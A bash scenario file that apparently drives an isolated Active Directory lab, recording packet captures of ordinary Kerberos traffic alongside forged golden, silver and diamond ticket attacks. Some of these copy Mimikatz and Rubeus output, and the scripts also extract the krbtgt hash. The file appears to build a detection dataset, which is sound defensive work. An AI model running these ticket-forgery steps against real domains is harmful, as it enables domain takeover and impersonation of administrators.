# What happens in the lab: each scenario is one capture. Sourced by run.

cc() { echo "$LAB/cc/$1.$2"; }

# keep HOST WHO: the ccache as it is now goes into the lab's record
keep() {
	[ -e "$(cc "$1" "$2")" ] || return 0
	cp "$(cc "$1" "$2")" "$LAB/snap/$(date +%s%N).$1.$2.cc"
}

# with HOST WHO CMD...: run a client on a host with a user's ccache, then keep the ccache
with() {
	local h=$1 who=$2; shift 2
	on "$h" env KRB5CCNAME="$(cc "$h" "$who")" KDC="$(ip4 "$DC")" timeout 20 "$@" \
		</dev/null >>"$LAB/log/clients" 2>&1
	local rc=$?
	keep "$h" "$who"
	echo "rc=$rc $h $who: $*" >>"$LAB/log/clients"
	return $rc
}

# Honest things to do. HOST WHO ...
login() { # login HOST WHO [KINIT OPTIONS]; the password is USER_PW unless PW says otherwise
	local h=$1 who=$2 kinit=kinit; shift 2
	[[ " $HEIMDAL_DESKS " = *" $h "* && $# = 0 && -z ${CONF:-} ]] &&
		kinit="$HEIMDAL/usr/bin/kinit.heimdal --password-file=STDIN"
	on "$h" env KRB5_CONFIG="${CONF:-/etc/krb5.conf}" timeout 20 bash -c \
		'pw=$1 kinit=$2; shift 2; echo "$pw" | $kinit "$@"' kinit "${PW:-$USER_PW}" "$kinit" \
		-c "$(cc "$h" "$who")" "$@" "$who" >>"$LAB/log/clients" 2>&1
	local rc=$?
	keep "$h" "$who"
	echo "rc=$rc login $h $who $*" >>"$LAB/log/clients"
	return $rc
}
machine() { # the host's own account, by keytab
	local h=$1; shift
	with "$h" "${h^^}\$" env KRB5_CONFIG="${CONF:-/etc/krb5.conf}" \
		kinit "$@" -k -t "$LAB/keys/dc.keytab" "${h^^}\$"
}
smb() { # smb HOST WHO SERVER [sign|encrypt]
	local share=team; [ "$3" = "$DC" ] && share=sysvol
	with "$1" "$2" smbclient "//$3.$DOMAIN/$share" --use-kerberos=required \
		--use-krb5-ccache="$(cc "$1" "$2")" --client-protection="${4:-sign}" -c 'ls'
}
web() {
	with "$1" "$2" curl -sS -f --negotiate -u : ${4:-} "http://${3:-$WEB.$DOMAIN}/index.html"
}
ldap() { # ldap HOST WHO GSSAPI|GSS-SPNEGO
	with "$1" "$2" ldapsearch -Q -N -Y "$3" -H "ldap://$DC.$DOMAIN" -b "" -s base dnsHostName
}
rpc() { # DCE/RPC over TCP
	with "$1" "$2" rpcclient "ncacn_ip_tcp:$DC.$DOMAIN[krb5,${3:-seal}]" \
		--use-krb5-ccache="$(cc "$1" "$2")" -c getdompwinfo
}
dns() { # DNS administration: DCE/RPC again, other interface
	with "$1" "$2" samba-tool dns serverinfo "$DC.$DOMAIN" \
		--use-krb5-ccache="$(cc "$1" "$2")"
}
renew() { with "$1" "$2" kinit -R; }
ask() { local h=$1 who=$2; shift 2; with "$h" "$who" kvno -q "$@"; }
chpw() { # chpw HOST WHO: changes the password and changes it back
	local h=$1 who=$2 a=$USER_PW b="Bramble-$NETBIOS-9" pair
	for pair in "$a $b" "$b $a"; do
		# shellcheck disable=SC2086
		on "$h" timeout 20 bash -c 'printf "%s\n%s\n%s\n" "$2" "$3" "$3" | kpasswd "$1"' \
			kpasswd "$who" $pair >>"$LAB/log/clients" 2>&1
		echo "rc=$? kpasswd $h $who" >>"$LAB/log/clients"
	done
}
rc4() { # an honest client whose configuration knows RC4 first
	CONF=/etc/krb5-rc4.conf login "$1" "$2"
	with "$1" "$2" env KRB5_CONFIG=/etc/krb5-rc4.conf kvno -q "cifs/$FS.$DOMAIN"
	smb "$1" "$2" "$FS"
	with "$1" "$2" env KRB5_CONFIG=/etc/krb5-rc4.conf kvno -q "app/legacy.$DOMAIN"
}
s4u() { # svc-front acts for a user towards the web service
	local h=$1 user=$2
	with "$h" svc-front kinit -k -t "$LAB/keys/dc.keytab" -f svc-front
	with "$h" svc-front kvno -q -k "$LAB/keys/dc.keytab" -U "$user" svc-front
	with "$h" svc-front kvno -q -k "$LAB/keys/dc.keytab" -U "$user" -P "HTTP/$WEB.$DOMAIN"
}
u2u() { # u2u HOST WHO: a ticket under the session key of the host's own TGT
	machine "$1"
	with "$1" "$2" kvno -q --u2u "$(cc "$1" "${1^^}\$")" "host/$1.$DOMAIN"
}
fast() {
	machine "$1" -f
	login "$1" "$2" -T "$(cc "$1" "${1^^}\$")"
}
fragments() { # a host that insists on UDP: the other realm's KDC is asked in fragments
	CONF=/etc/krb5-udp.conf login "$1" "$2"
	with "$1" "$2" env KRB5_CONFIG=/etc/krb5-udp.conf \
		kvno -q "HTTP/$GATE.$MIT_DOMAIN@$MIT_REALM"
	web "$1" "$2" "$GATE.$MIT_DOMAIN"
}
pkinit() { # a certificate instead of a password
	with "$1" "brina@$MIT_REALM" kinit -X \
		X509_user_identity="FILE:$LAB/keys/brina.pem,$LAB/keys/brina.key" "brina@$MIT_REALM"
	web "$1" "brina@$MIT_REALM" "$GATE.$MIT_DOMAIN"
}
delegate() { # the web service gets a forwarded TGT and acts with it from its own host
	login "$1" "$2" -f
	web "$1" "$2" "$WEB.$DOMAIN" '--delegation always'
	on "$FS" sh -c 'cp "/run/deleg/$1" "$2"' deleg "$2@$REALM" "$(cc "$FS" "$2")"
	keep "$FS" "$2"
	ldap "$FS" "$2" GSSAPI; web "$FS" "$2" "$GATE.$MIT_DOMAIN"
}
tkey() { with "$FS" dns net ads dns register -P; } # DNS update under a GSS key
user() { # user N: the n-th user
	local u; read -ra u <<<"$USERS"; echo "${u[$1 % ${#u[@]}]}"
}

# Captures
start() { # start NAME [TCPDUMP OPTIONS]
	local name=$1; shift
	echo "== $name" >>"$LAB/log/clients"
	ip netns exec "$PFX-span" tcpdump -q -Z root -i br0 -s0 -U -B 16384 \
		--immediate-mode "$@" \
		-w "$LAB/raw/$name.pcap" 2>"$LAB/log/$name.tcpdump" &
	echo $! >"$LAB/pid/$name.cap"
	wait_for 5 test -s "$LAB/raw/$name.pcap"
	date +%s%N >"$LAB/raw/$name.span"
}
stop() {
	local pid i was="" now=0; pid=$(<"$LAB/pid/$1.cap")
	date +%s%N >>"$LAB/raw/$1.span"
	for ((i = 0; i < 30; i++)); do # until all is written
		sleep 0.4; now=$(stat -c %s "$LAB/raw/$1.pcap")
		[ "$now" = "$was" ] && break; was=$now
	done
	kill -INT "$pid"; wait "$pid" 2>/dev/null
	rm "$LAB/pid/$1.cap"
	grep -h 'dropped by kernel' "$LAB/log/$1.tcpdump" | grep -v '^0 ' >&2
	sleep 0.2
}
truth() { /usr/bin/python3 "$HERE/truth" "$1" "$LAB" "$HOSTS"; }

session() { # session HOST WHO SEED: a working session, its length and content from the seed
	local h=$1 who=$2 r=$3 i
	if ((r % 3 == 0)); then CONF=/etc/krb5-tcp.conf login "$h" "$who"
	elif ((r % 7 == 1)); then fast "$h" "$who"
	else login "$h" "$who"; fi
	smb "$h" "$who" "$FS" "$( ((r % 2)) && echo encrypt || echo sign)"
	web "$h" "$who"
	case $((r % 4)) in
	0) ldap "$h" "$who" GSSAPI; rpc "$h" "$who" ;;
	1) ldap "$h" "$who" GSS-SPNEGO; smb "$h" "$who" "$DC" ;;
	2) rpc "$h" "$who" sign; web "$h" "$who"; ldap "$h" "$who" GSSAPI ;;
	3) smb "$h" "$who" "$DC" encrypt; ldap "$h" "$who" GSS-SPNEGO ;;
	esac
	case $((r % 9)) in
	0) renew "$h" "$who"; smb "$h" "$who" "$FS" ;;
	2) web "$h" "$who" "$GATE.$MIT_DOMAIN" ;;
	4) web "$h" "$who" "$WEB.$DOMAIN" '--delegation always' ;;
	5) PW=not-it login "$h" "$who"; login "$h" "$who"; web "$h" "$who" ;;
	7) with "$h" "$who" "$HERE/client" smb "$FS.$DOMAIN" ;;
	esac
}

desk_day() { # desk_day HOST INDEX SESSIONS
	local h=$1 n=$2 i
	machine "$h"; smb "$h" "${h^^}\$" "$DC"; ldap "$h" "${h^^}\$" GSSAPI
	for ((i = 0; i < $3; i++)); do
		session "$h" "$(user $((n * 3 + i + SEED)))" $((n * 5 + i * 7 + SEED))
	done
}

day() { # day SESSIONS: all desks at once, then the rarer things one after the other
	local n=0 h pids=""
	for h in $DESKS; do desk_day "$h" $n "$1" & pids+=" $!"; n=$((n + 1)); done
	# shellcheck disable=SC2086
	wait $pids
}

rare() {
	chpw desk1 "$(user 8)"
	rc4 desk2 "$(user 9)"
	s4u desk4 "$(user 1)"
	login desk1 "$(user 0)"; u2u desk1 "$(user 0)"
	PW=$ADMIN_PW login desk2 administrator; dns desk2 administrator
	login desk4 "brina@$MIT_REALM"; web desk4 "brina@$MIT_REALM" "$GATE.$MIT_DOMAIN"
	PW=wrong login desk3 "$(user 2)"; PW=wrong login desk3 "$(user 2)"
	login desk3 "$(user 2)"; smb desk3 "$(user 2)" "$FS"; web desk3 "$(user 2)"
	machine desk1 -f; login desk1 "$(user 4)" -T "$(cc desk1 'DESK1$')"
	ask desk1 "$(user 4)" "host/desk2.$DOMAIN" "app/legacy.$DOMAIN"
	fragments desk4 "$(user 6)"; fragments desk3 "$(user 7)"
	pkinit desk2
	delegate desk4 "$(user 4)"
	tkey
}

# Honest colleagues of an attack: everybody fetches tickets anew, the member server too.
colleagues() { # colleagues FROM TO
	local i h=(desk1 desk2 desk3 desk4)
	for ((i = $1; i < $2; i++)); do
		local d=${h[$i % 4]} u; u=$(user $((i + 2)))
		login "$d" "$u"
		smb "$d" "$u" "$FS" "$( ((i % 2)) && echo encrypt || echo sign)"
		web "$d" "$u"
		((i % 2)) && ldap "$d" "$u" GSSAPI || rpc "$d" "$u"
	done
}
morning() { winbind_up; colleagues 0 "$MORNING"; }
evening() { colleagues 4 "$EVENING"; }

sid() { grep -m1 '^S-1-5' "$LAB/log/populate"; }
forge() { # forge VERB NAME OPTIONS: makes $LAB/forged/NAME.ccache
	local verb=$1 name=$2; shift 2
	(cd "$HERE" && /usr/bin/python3 ./forge "$verb" "$LAB/forged/$name.ccache" \
		--domain "$DOMAIN" --netbios "$NETBIOS" --sid "$(sid)" \
		--keytab "$LAB/keys/dc.keytab" "$@") >>"$LAB/log/forge" 2>&1 || say "forge $name failed"
}
shapes() { # shapes VERB NAME OPTIONS: the same, in the shape of another tool
	local verb=$1 name=$2; shift 2
	(cd "$HERE" && /usr/bin/python3 ./forge-shapes "$verb" "$LAB/forged/$name.ccache" \
		--domain "$DOMAIN" --realm "$REALM" --netbios "$NETBIOS" --sid "$(sid)" \
		--keytab "$LAB/keys/dc.keytab" "$@") >>"$LAB/log/forge" 2>&1 ||
		{ say "shapes $name failed"; FAILED=1; }
}
samba_forge() { # samba_forge VERB NAME OPTIONS: the same, with Samba's test library
	local verb=$1 name=$2; shift 2
	(cd "$HERE" && /usr/bin/python3 ./forge-samba "$verb" "$LAB/forged/$name.ccache" \
		--domain "$DOMAIN" --realm "$REALM" --netbios "$NETBIOS" --sid "$(sid)" --dc "$DC" \
		--keytab "$LAB/keys/dc.keytab" "$@") >>"$LAB/log/forge" 2>&1 ||
		{ say "samba_forge $name failed"; FAILED=1; }
}
export_key() { # export_key FILE SPN: a keytab that names its key as the service
	on "$DC" samba-tool domain exportkeytab "$LAB/keys/$1.keytab" --principal="$2" \
		>>"$LAB/log/populate" 2>&1
	chmod 644 "$LAB/keys/$1.keytab"
}
impersonate() { # impersonate NAME KEYTAB SPN [OPTIONS]: the same, with Heimdal's kimpersonate
	local name=$1 keytab=$2 spn=$3; shift 3
	on "$ROGUE" "$HEIMDAL/usr/sbin/kimpersonate" -5 -k "$keytab" -s "$spn@$REALM" \
		-c "administrator@$REALM" --ccache="$LAB/forged/$name.ccache" -e 36000 "$@" \
		>>"$LAB/log/forge" 2>&1 ||
		{ say "impersonate $name failed"; FAILED=1; }
}
asks() { # asks HOST WHO asktgt|asktgs OPTIONS: the requests that Rubeus makes itself
	local h=$1 who=$2 verb=$3 out; out=$(cc "$h" "$who"); shift 3
	on "$h" env PYTHONPATH="$HERE" timeout 20 /usr/bin/python3 "$HERE/forge-shapes" "$verb" \
		"$out" --template "$out" --realm "$REALM" --kdc "$(ip4 "$DC")" "$@" \
		</dev/null >>"$LAB/log/clients" 2>&1
	local rc=$?
	keep "$h" "$who"
	echo "rc=$rc $h $who: $verb $*" >>"$LAB/log/clients"
	return $rc
}
pocket() { # pocket NAME [HOST]: the rogue host takes a forged ccache as its own
	install -m 600 "$LAB/forged/$1.ccache" "$(cc "${2:-$ROGUE}" "$1")"; keep "${2:-$ROGUE}" "$1"
}
KRBTGT() { echo krbtgt; }
kvno_now() { echo $((KRBTGT_ROT + 1)); }
kvno_of_fs() { # the member's newest key version
	(cd "$HERE" && /usr/bin/python3 -c 'import sys; from tickets import read_keytab
print(max(k[2] for k in read_keytab(sys.argv[1])))' "$LAB/keys/fs.keytab")
}

must() { # must CMD...: what an attack's description claims; mustnt likewise
	"$@" && return 0
	say "UNEXPECTED: failed: $*"; FAILED=1
}
mustnt() {
	"$@" || return 0
	say "UNEXPECTED: went well: $*"; FAILED=1
}

use_tgt() { # use_tgt must|mustnt NAME: what a golden ticket is for
	local so=$1 n=$2
	pocket "$n"
	$so ask "$ROGUE" "$n" "cifs/$FS.$DOMAIN"
	$so with "$ROGUE" "$n" "$HERE/client" smb "$FS.$DOMAIN"
	$so ask "$ROGUE" "$n" "cifs/$DC.$DOMAIN"
	$so with "$ROGUE" "$n" "$HERE/client" smb "$DC.$DOMAIN"
	$so ldap "$ROGUE" "$n" GSSAPI
}

# The scenarios. Each function name is "s_" and the capture's name with _ for -.
s_benign_day() { start benign-day; winbind_up; day 12; rare; stop benign-day; }
s_benign() { start benign; winbind_up; day "$SESSIONS"; rare; stop benign; }
s_benign_hour() { # small, for the derived forms
	start benign-hour --time-stamp-precision=nano
	login desk1 "$(user 3)"; smb desk1 "$(user 3)" "$FS"; web desk1 "$(user 3)"
	login desk3 "$(user 5)"; smb desk3 "$(user 5)" "$DC" encrypt; ldap desk3 "$(user 5)" GSSAPI
	CONF=/etc/krb5-tcp.conf login desk2 "$(user 6)"; rpc desk2 "$(user 6)"
	web desk2 "$(user 6)" "$GATE.$MIT_DOMAIN"; PW=wrong login desk4 "$(user 7)"
	login desk4 "brina@$MIT_REALM"; web desk4 "brina@$MIT_REALM" "$GATE.$MIT_DOMAIN"
	fast desk4 "$(user 7)"; ldap desk4 "$(user 7)" GSS-SPNEGO
	stop benign-hour
}
s_golden_aes() {
	forge stock golden-aes --key-of "$(KRBTGT)" --requestor --kvno "$(kvno_now)"
	start golden-aes; morning; use_tgt must golden-aes; evening; stop golden-aes
}
s_golden_rc4() {
	forge stock golden-rc4 --nthash "$(on "$DC" "$HERE/populate" nthash krbtgt)" --requestor
	start golden-rc4; morning; use_tgt mustnt golden-rc4; evening; stop golden-rc4
}
s_golden_refused() { # stock kvno; no requestor in the PAC; a user who does not exist
	forge stock refused-kvno --key-of "$(KRBTGT)" --requestor
	forge stock refused-pac --key-of "$(KRBTGT)" --kvno "$(kvno_now)"
	forge stock refused-user --key-of "$(KRBTGT)" --kvno "$(kvno_now)" --requestor \
		--user phantom --rid 4711
	start golden-refused; morning
	local n; for n in refused-kvno refused-pac refused-user; do
		pocket $n; mustnt ask "$ROGUE" $n "cifs/$FS.$DOMAIN"
	done
	mustnt with "$ROGUE" refused-user "$HERE/client" tgs "cifs/$DC.$DOMAIN"
	evening; stop golden-refused
}
s_golden_careful() { # an honest ticket got long ago, reopened with the key: all looks right
	login desk2 "$(user 0)"
	forge remake golden-careful --key-of "$(KRBTGT)" --template "$(cc desk2 "$(user 0)")"
	start golden-careful; morning; use_tgt must golden-careful; evening; stop golden-careful
}
s_diamond() { # the same, the honest ticket fetched in sight
	start diamond; morning
	login "$ROGUE" "$(user 1)"
	forge remake diamond --key-of "$(KRBTGT)" --template "$(cc "$ROGUE" "$(user 1)")"
	use_tgt must diamond; evening; stop diamond
}
s_silver_smb() {
	forge stock silver-smb --keytab "$LAB/keys/fs.keytab" --key-of "${FS^^}\$" \
		--spn "cifs/$FS.$DOMAIN"
	start silver-smb; morning
	pocket silver-smb; must with "$ROGUE" silver-smb "$HERE/client" smb "$FS.$DOMAIN"
	evening; stop silver-smb
}
s_silver_http() {
	forge stock silver-http --key-of svc-web --spn "HTTP/$WEB.$DOMAIN"
	start silver-http; morning
	pocket silver-http; must web "$ROGUE" silver-http; must web "$ROGUE" silver-http
	evening; stop silver-http
}
s_silver_refused() {
	forge stock silver-refused --keytab "$LAB/keys/fs.keytab" --key-of "${FS^^}\$" \
		--spn "cifs/$FS.$DOMAIN" --wrong-key
	forge stock silver-refused-http --key-of svc-web --spn "HTTP/$WEB.$DOMAIN" --wrong-key
	start silver-refused; morning
	pocket silver-refused; mustnt with "$ROGUE" silver-refused "$HERE/client" smb "$FS.$DOMAIN"
	pocket silver-refused-http; mustnt web "$ROGUE" silver-refused-http
	evening; stop silver-refused
}
# Other forgers than the stock tool. Where neither must nor mustnt stands, the answer depends on the
# lab: it may use the very key version that a tool writes.
hash_of() { on "$DC" "$HERE/populate" nthash "$1"; }
member() { "$@" --keytab "$LAB/keys/fs.keytab" --key-of "${FS^^}\$" --spn "cifs/$FS.$DOMAIN"; }
webapp() { "$@" --key-of svc-web --spn "HTTP/$WEB.$DOMAIN"; }
attack() { # attack NAME CMD...: one capture, colleagues around it
	local n=$1; shift
	[ "${MM_SET:-main}" = main ] && local MORNING=1 EVENING=4 # those that are shipped are small
	start "$n"; morning; "$@"; evening; stop "$n"
}
tries() { # tries NAME HOST: a forged TGT and the stock clients
	pocket "$1" "${2:-}"
	ask "${2:-$ROGUE}" "$1" "cifs/$FS.$DOMAIN" && smb "${2:-$ROGUE}" "$1" "$FS" &&
		ldap "${2:-$ROGUE}" "$1" GSSAPI
}
tries_asktgs() { # tries_asktgs NAME [--opsec]: the same, tickets asked for as Rubeus asks
	local n=$1; shift
	pocket "$n"
	asks "$ROGUE" "$n" asktgs "$@" --spn "cifs/$FS.$DOMAIN,ldap/$DC.$DOMAIN" &&
		smb "$ROGUE" "$n" "$FS"
}
tries_smb() { pocket "$1"; smb "$ROGUE" "$1" "$FS"; }
tries_web() { pocket "$1"; web "$ROGUE" "$1"; web "$ROGUE" "$1"; }
s_heimdal_silver_http() {
	impersonate heimdal-silver-http "$LAB/keys/web.keytab" "HTTP/$WEB.$DOMAIN"
	attack heimdal-silver-http must tries_web heimdal-silver-http
}
s_heimdal_silver_smb() { # no PAC: a member server wants one
	export_key cifs "cifs/$FS.$DOMAIN"
	impersonate heimdal-silver-smb "$LAB/keys/cifs.keytab" "cifs/$FS.$DOMAIN"
	attack heimdal-silver-smb mustnt tries_smb heimdal-silver-smb
}
s_heimdal_golden() { # no PAC: the KDC wants one
	export_key tgs "krbtgt/$REALM"
	impersonate heimdal-golden "$LAB/keys/tgs.keytab" "krbtgt/$REALM" -f initial,forwardable
	attack heimdal-golden mustnt tries heimdal-golden
}
s_samba_golden() { # all buffers a KDC writes, the right kvno
	samba_forge tgt samba-golden --key-of krbtgt --kvno "$(kvno_now)"
	attack samba-golden must tries samba-golden
}
s_samba_golden_desk() { # the same from a desk where people work honestly
	samba_forge tgt samba-golden-desk --key-of krbtgt --kvno "$(kvno_now)"
	attack samba-golden-desk must tries samba-golden-desk desk1
}
s_samba_silver() {
	member samba_forge service samba-silver --kvno "$(kvno_of_fs)"
	attack samba-silver must tries_smb samba-silver
}
s_samba_diamond() {
	start samba-diamond; morning
	login "$ROGUE" "$(user 1)"
	samba_forge diamond samba-diamond --key-of krbtgt --template "$(cc "$ROGUE" "$(user 1)")"
	must tries samba-diamond; evening; stop samba-diamond
}
s_mimikatz_golden() { # as it comes: RC4, kvno 2, the realm as typed, four PAC buffers
	shapes mimikatz mimikatz-golden --nthash "$(hash_of krbtgt)"
	attack mimikatz-golden mustnt tries mimikatz-golden
}
s_mimikatz_golden_aes() { # /aes256, and an operator who types the realm in capitals
	shapes mimikatz mimikatz-golden-aes --key-of krbtgt --etype 18 --domain "$REALM"
	attack mimikatz-golden-aes mustnt tries mimikatz-golden-aes
}
s_mimikatz_silver() { # /rc4 /service:cifs
	member shapes mimikatz mimikatz-silver --nthash "$(hash_of "${FS^^}\$")"
	attack mimikatz-silver tries_smb mimikatz-silver
}
s_mimikatz_silver_aes() {
	webapp shapes mimikatz mimikatz-silver-aes --etype 18 --domain "$REALM"
	attack mimikatz-silver-aes must tries_web mimikatz-silver-aes
}
s_rubeus_golden() { # /rc4, no /newpac, asktgs
	shapes rubeus rubeus-golden --nthash "$(hash_of krbtgt)"
	attack rubeus-golden mustnt tries_asktgs rubeus-golden
}
s_rubeus_golden_aes() { # /aes256 /newpac, the Windows way: the stack of the host asks
	shapes rubeus rubeus-golden-aes --key-of krbtgt --etype 18 --newpac
	attack rubeus-golden-aes tries rubeus-golden-aes
}
s_rubeus_golden_kvno() { # the same, told the right kvno; asktgs /opsec
	shapes rubeus rubeus-golden-kvno --key-of krbtgt --etype 18 --newpac --kvno "$(kvno_now)"
	attack rubeus-golden-kvno must tries_asktgs rubeus-golden-kvno --opsec
}
s_rubeus_silver() { # /aes256 /service:cifs
	member shapes rubeus rubeus-silver --etype 18
	attack rubeus-silver must tries_smb rubeus-silver
}
s_rubeus_silver_http() { # /rc4 /service:HTTP
	webapp shapes rubeus rubeus-silver-http --nthash "$(hash_of svc-web)"
	attack rubeus-silver-http tries_web rubeus-silver-http
}
s_rubeus_diamond() { # asktgt in sight, reopened, asktgs /opsec
	start rubeus-diamond; morning
	local u; u=$(user 1)
	asks "$ROGUE" "$u" asktgt --user "$u" --password "$USER_PW"
	shapes diamond rubeus-diamond --key-of krbtgt --etype 18 --user "$u" \
		--template "$(cc "$ROGUE" "$u")"
	pocket rubeus-diamond
	asks "$ROGUE" rubeus-diamond asktgs --opsec --user "$u" \
		--spn "cifs/$FS.$DOMAIN,ldap/$DC.$DOMAIN" &&
		smb "$ROGUE" rubeus-diamond "$FS"
	evening; stop rubeus-diamond
}
s_spn_substitution() { # host/ became cifs/ in the clear part: same account, same key
	start spn-substitution; morning
	login "$ROGUE" "$(user 7)"; ask "$ROGUE" "$(user 7)" "host/$FS.$DOMAIN"
	forge rename edited-host-to-cifs --template "$(cc "$ROGUE" "$(user 7)")" \
		--key-of "host/$FS" --spn "cifs/$FS.$DOMAIN"
	pocket edited-host-to-cifs
	must with "$ROGUE" edited-host-to-cifs "$HERE/client" smb "$FS.$DOMAIN"
	evening; stop spn-substitution
}
s_late_sensor() {
	local i h=(desk1 desk2 desk3 desk4) u
	winbind_up
	for ((i = 0; i < 8; i++)); do
		u=$(user $i); login "${h[$i % 4]}" "$u"
		ask "${h[$i % 4]}" "$u" "cifs/$FS.$DOMAIN" "HTTP/$WEB.$DOMAIN" "ldap/$DC.$DOMAIN"
	done
	machine desk1; ask desk1 'DESK1$' "cifs/$DC.$DOMAIN"
	start late-sensor
	for ((i = 0; i < 8; i++)); do
		u=$(user $i)
		smb "${h[$i % 4]}" "$u" "$FS"; web "${h[$i % 4]}" "$u"
		((i % 2)) && ldap "${h[$i % 4]}" "$u" GSSAPI || rpc "${h[$i % 4]}" "$u"
	done
	smb desk1 'DESK1$' "$DC"
	renew desk2 "$(user 1)"; smb desk2 "$(user 1)" "$DC"
	login desk4 "$(user 9)"; smb desk4 "$(user 9)" "$FS"; web desk4 "$(user 9)"
	stop late-sensor
}
s_honest_errors() {
	local i old="$LAB/cc/desk2.expired"
	# the ticket in "expired" lived 30 seconds and the KDC forgives a minute
	for ((i = 0; i < 100; i++)); do
		(($(date +%s) > $(stat -c %Y "$old") + 95)) && break; sleep 1
	done
	start honest-errors
	login desk1 "$(user 0)"; smb desk1 "$(user 0)" "$FS"; web desk1 "$(user 0)"
	for i in 1 2 3 4; do PW=wrong$i login desk1 "$(user $i)"; done
	login desk2 nobody-here; login desk2 former
	login desk2 "$(user 1)"
	ask desk2 "$(user 1)" "cifs/no-such-host.$DOMAIN"
	ask desk2 "$(user 1)" "HTTP/typo.$DOMAIN"
	with desk4 skewed faketime -f +20m "$HERE/client" tgt "$(user 2)" "$USER_PW"
	with desk2 expired "$HERE/client" tgs "cifs/$FS.$DOMAIN"
	CONF=/etc/krb5-rc4.conf login desk3 "$(user 5)"
	login desk3 "$(user 5)"; ldap desk3 "$(user 5)" GSSAPI; smb desk3 "$(user 5)" "$FS"
	chpw desk4 "$(user 6)"
	PW=$USER_PW-old login desk4 "$(user 6)"; login desk4 "$(user 6)"; web desk4 "$(user 6)"
	stop honest-errors
}
web_keytab() { # web_keytab FILE...: the web service's keytab becomes these, in order
	local f; { printf '\5\2'; for f; do tail -c +3 "$f"; done; } >"$LAB/web.now"
	on "$FS" sh -c 'cat "$1" >/etc/web.keytab' web "$LAB/web.now"
}
s_rekeyed_service() {
	local u=("$(user 0)" "$(user 1)" "$(user 2)" "$(user 3)")
	login desk2 "${u[1]}"; ask desk2 "${u[1]}" "HTTP/$WEB.$DOMAIN" "cifs/$FS.$DOMAIN"
	start rekeyed-service; winbind_up
	login desk1 "${u[0]}"; web desk1 "${u[0]}"; smb desk1 "${u[0]}" "$FS"
	on "$DC" "$HERE/populate" rekey svc-web
	on "$DC" samba-tool domain exportkeytab "$LAB/keys/web2.keytab" \
		--principal="HTTP/$WEB.$DOMAIN" >>"$LAB/log/populate" 2>&1
	web_keytab "$LAB/keys/web.keytab" "$LAB/keys/web2.keytab"
	web desk1 "${u[0]}"; web desk2 "${u[1]}"
	login desk3 "${u[2]}"; web desk3 "${u[2]}"
	on "$FS" net ads changetrustpw >>"$LAB/log/join" 2>&1
	on "$DC" samba-tool domain exportkeytab "$LAB/keys/fs2.keytab" \
		--principal="${FS^^}\$" >>"$LAB/log/populate" 2>&1
	smb desk1 "${u[0]}" "$FS"; smb desk2 "${u[1]}" "$FS"
	login desk4 "${u[3]}"; smb desk4 "${u[3]}" "$FS"
	web_keytab "$LAB/keys/web2.keytab"
	web desk1 "${u[0]}"; web desk2 "${u[1]}"
	login desk1 "${u[0]}"; web desk1 "${u[0]}"; smb desk1 "${u[0]}" "$FS"
	stop rekeyed-service
}
s_offload() {
	local h; for h in desk1 desk2 "$FS" "$DC"; do offload "$h" on; done
	head -c 9000 "$HERE/scenarios.sh" >"$LAB/upload"
	start offload
	login desk1 "$(user 4)"; smb desk1 "$(user 4)" "$FS" sign; web desk1 "$(user 4)"
	with desk1 "$(user 4)" smbclient "//$FS.$DOMAIN/team" --use-kerberos=required \
		--use-krb5-ccache="$(cc desk1 "$(user 4)")" -c "put $LAB/upload upload; rm upload"
	fast desk2 "$(user 5)"; smb desk2 "$(user 5)" "$DC" encrypt; ldap desk2 "$(user 5)" GSSAPI
	rpc desk2 "$(user 5)"; web desk2 "$(user 5)"
	stop offload
	for h in desk1 desk2 "$FS" "$DC"; do offload "$h" off; done
}
scenario() { say "$1"; "s_${1//-/_}"; }
